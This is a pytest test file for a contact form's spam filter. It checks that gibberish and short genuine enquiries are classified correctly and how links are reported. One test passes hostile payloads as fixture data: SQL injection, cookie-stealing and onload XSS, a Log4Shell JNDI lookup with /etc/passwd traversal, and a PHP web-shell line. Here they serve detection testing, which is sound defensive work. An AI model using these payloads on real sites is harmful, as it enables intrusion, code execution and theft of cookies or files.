"""Who types rubbish, or nothing but code, is told from who says little."""

from typing import Any

import pytest

from app.enquiry import spam
from tests.enquiry.corpora import form


def test_operator_who_tries_the_form_finds_it_in_the_inbox() -> None:
    assert not spam.assess(form(name="Test", message="test")).is_suspect


@pytest.mark.parametrize(
    "typed",
    [
        {"name": "asd", "message": "."},
        {"name": "1", "email": "1@1.example", "message": "1"},
        {"name": "Test", "email": "test@test.example", "message": "test"},
        {"name": "qweqwe", "message": "asdasd asd"},
    ],
)
def test_who_types_rubbish_everywhere_is_put_aside(typed: dict[str, Any]) -> None:
    assert spam.assess(form(**typed)).is_suspect


@pytest.mark.parametrize(
    "typed",
    [
        {"name": "Bert", "message": "?"},
        {"name": "Gert Ertl", "company": "Otto", "email": "otto@otto.example", "message": "Rückruf"},
        {"name": "h", "message": "hallo?"},
        {"name": "Ada", "message": "0172 5550299"},
    ],
)
def test_who_says_little_is_not(typed: dict[str, Any]) -> None:
    assert not spam.assess(form(**typed)).is_suspect


@pytest.mark.parametrize(
    "message",
    [
        "' OR 1=1 -- <script>alert(document.cookie)</script>",
        "${jndi:ldap://x.example/a} ../../etc/passwd",
        "test'\"><svg/onload=confirm(1)>",
        "<?php system($_GET['cmd']); ?>",
    ],
)
def test_nothing_but_code_is_put_aside(message: str) -> None:
    assert spam.assess(form(message=message)).is_suspect


def test_link_in_a_text_of_another_script_is_not_all_there_is() -> None:
    verdict = spam.assess(form(message="Καλημέρα, τι λέτε για αυτό το άρθρο: https://arthro.example/7"))

    assert verdict.reasons == ("links:arthro.example",)


def test_marks_and_figures_beside_a_link_are_no_words() -> None:
    verdict = spam.assess(form(message="Hallo! 24 / 7? https://arthro.example/w 100 !!!"))

    assert verdict.reasons == ("links:arthro.example", "nothing_else")
